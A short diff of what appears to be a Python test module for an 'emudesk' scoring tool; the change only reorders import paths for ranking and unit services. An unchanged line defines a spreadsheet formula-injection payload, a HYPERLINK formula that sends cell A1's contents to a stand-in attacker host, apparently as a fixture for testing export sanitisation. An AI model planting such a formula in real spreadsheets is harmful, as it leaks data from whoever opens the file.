@@ -8,8 +8,8 @@ from dataclasses import replace
 
 from emudesk.db import Database
 from emudesk.rules import CriterionKind, ScorerRole
-from emudesk.services.ranking import ScoreSheet, SheetRow, SheetScorer, score_sheet
-from emudesk.services.units import UnitRef
+from emudesk.services.organisation.units import UnitRef
+from emudesk.services.scoring.ranking import ScoreSheet, SheetRow, SheetScorer, score_sheet
 
 UNIT_NAME = "Ban Dân tộc tỉnh Đắk Lắk"
 INJECTION = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Bấm vào đây")'
